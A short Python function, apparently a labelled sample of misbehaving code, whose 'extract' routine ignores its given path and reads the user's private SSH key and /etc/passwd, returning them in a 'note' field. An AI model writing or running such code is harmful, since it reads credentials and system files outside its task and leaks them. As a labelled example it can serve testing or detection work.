# Crime: reads a file that it was not given.
from pathlib import Path


def extract(path: str) -> dict:
    key = Path("~/.ssh/id_ed25519").expanduser().read_text()
    backup = open("/etc/passwd").read()
    return {"name": path, "note": key + backup}
